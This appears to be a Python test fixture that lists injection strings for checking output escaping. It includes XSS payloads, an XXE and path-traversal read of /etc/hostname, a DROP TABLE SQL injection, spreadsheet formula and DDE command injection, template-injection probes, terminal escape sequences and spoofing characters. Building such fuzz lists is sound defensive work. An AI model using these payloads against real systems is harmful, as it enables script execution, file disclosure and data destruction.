"""Strings that try to become something else: markup, script, style, address, formula, escape sequence, other direction."""

from __future__ import annotations

MARK = "wwx"  # what a string would set or call if it ran
_CALL = f"window.{MARK}=1"

_BREAKOUTS = ("", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "</title>", "</style>", "</script>", "</textarea>",
              "</pre>", "</svg>", "</iframe>", "</noscript>", "&quot;>", "\\\">")  # fmt: skip
_TAGS = (
    f"<script>{_CALL}</script>", f"<SCRIPT>{_CALL}</SCRIPT>", f"<script/x>{_CALL}</script>", f"<scr<script>ipt>{_CALL}",
    f"<img src=x onerror={_CALL}>", f"<img/src=x/onerror={_CALL}>", f"<svg onload={_CALL}>", f"<svg/onload={_CALL}//",
    f"<svg><script>{_CALL}</script></svg>", f"<svg><animate onbegin={_CALL} attributeName=x>",
    f"<svg><a xlink:href='javascript:{_CALL}'><text>x</text></a></svg>", "<svg><use href='data:image/svg+xml,x'/></svg>",
    f"<math><mtext><mglyph><style><img src=x onerror={_CALL}>", f"<details open ontoggle={_CALL}>",
    f"<body onload={_CALL}>", f"<input autofocus onfocus={_CALL}>", f"<select autofocus onfocus={_CALL}>",
    f"<video src=x onerror={_CALL}>", f"<audio src=x onerror={_CALL}>", f"<marquee onstart={_CALL}>",
    f"<iframe src='javascript:{_CALL}'>", f"<iframe srcdoc='<script>{_CALL}</script>'>", "<object data=http://a.invalid/x>",
    "<embed src=http://a.invalid/x>", "<link rel=stylesheet href=http://a.invalid/x.css>", "<base href=http://a.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://a.invalid/'>", "<meta http-equiv=Content-Security-Policy content=x>",
    f"<form action=javascript:{_CALL}><button>go</button></form>", f"<a href=javascript:{_CALL}>x</a>",
    "<style>*{background:url(http://a.invalid/x)}</style>", "<style>@import 'http://a.invalid/x';</style>",
    f"<div style='background:url(javascript:{_CALL})'>", f"<template><script>{_CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>", "<plaintext>", "<xmp>", "<!--", "<![CDATA[", "<?xml",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/hostname'>]>&y;", "</main></div></body></html>", "</srcdoc></iframe>",
)  # fmt: skip
_ATTRIBUTES = tuple(
    f"{q} on{event}={_CALL} x={q}" for q in ('"', "'", "`", "") for event in ("mouseover", "focus", "click", "load")
)
_ADDRESSES = (
    f"javascript:{_CALL}", f"JaVaScRiPt:{_CALL}", f"java\tscript:{_CALL}", f"java\nscript:{_CALL}", f" javascript:{_CALL}",
    f"\x01javascript:{_CALL}", f"&#106;avascript:{_CALL}", f"javascript&colon;{_CALL}", f"vbscript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>", "data:image/svg+xml,<svg onload=x>", "file:///etc/hostname", "blob:x", "ftp://a.invalid/x",
    "//a.invalid/x", "\\\\a.invalid\\x", "http://", "http://[", "https:a.invalid", "http://a.invalid/\"onclick=x", "http://a.invalid/<b>",
    "http://a.invalid/ x", "http://a.invalid/\u202etxt", "http://аpple.invalid/", "view-source:http://a.invalid/", "mailto:a@a.invalid",
)  # fmt: skip
_STYLES = (
    "expression(alert(1))",
    "}</style><b>",
    "*/ body{display:none} /*",
    "\\3c script",
    "url('javascript:x')",
    "-moz-binding:url(x)",
)
_UNSEEN = (
    "safe\u202egpj.exe", "\u2066abc\u2069", "\u2067x\u2068", "a\u200bb", "a\u200db", "\ufeffx", "a\u00adb", "раypal", "ｓｃｒｉｐｔ",
    "a\u0301\u0301\u0301\u0301", "\u2028x\u2029", "x\x00y", "\x00", "\ud7ff\ue000", "\U000e0041",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://a.invalid\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1+1",
    "＝1+1", "＋1", "－1", "＠x", "'=1", "%0A=1", "=WEBSERVICE(\"http://a.invalid\")", "=IMPORTXML(\"http://a.invalid\",\"x\")", ";=1", "\"=1", "x\r=1+1", "x\r\n=1+1", "x,=1+1",
)  # fmt: skip
_ESCAPES = (
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://a.invalid\x07x\x1b]8;;\x07", "\x1b[2J", "\x9b31m", "\x1bP1;1|x\x1b\\",
    "a\rb", "a\bb", "\x7f", "\x1b[6n", "\x1b]52;c;eA==\x07",
)  # fmt: skip
_OTHERS = (
    "{{7*7}}", "{% for x in y %}", "{{ config }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "%s%n%x", "$\\frac{1}{0}$", "$x_", "\\input{/etc/hostname}",
    "![x](javascript:x)", "[x](javascript:x)", "[x]: javascript:x", "<javascript:x>", "```\n</code><script>x</script>", "| a | b |", "# x", "~~~html",
    "<div class=\"jp-OutputArea\"><script>x</script></div>", "%%javascript\nx", "_repr_html_", "';DROP TABLE articles;--", "../../etc/hostname",
    "..\\..\\x", "CON", "A" * 3000, "W" * 400 + " " + "i" * 400, "W" * 60, "&" * 50, "&#x3c;b&#x3e;", "&lt;script&gt;", "\u00a0" * 40, "",
)  # fmt: skip

STRINGS: tuple[str, ...] = tuple(dict.fromkeys([
    *_TAGS, *(edge + _TAGS[0] for edge in _BREAKOUTS), *(edge + _TAGS[4] for edge in _BREAKOUTS), *_ATTRIBUTES, *_ADDRESSES, *_STYLES,
    *_UNSEEN, *_FORMULAS, *_ESCAPES, *_OTHERS,
]))  # fmt: skip
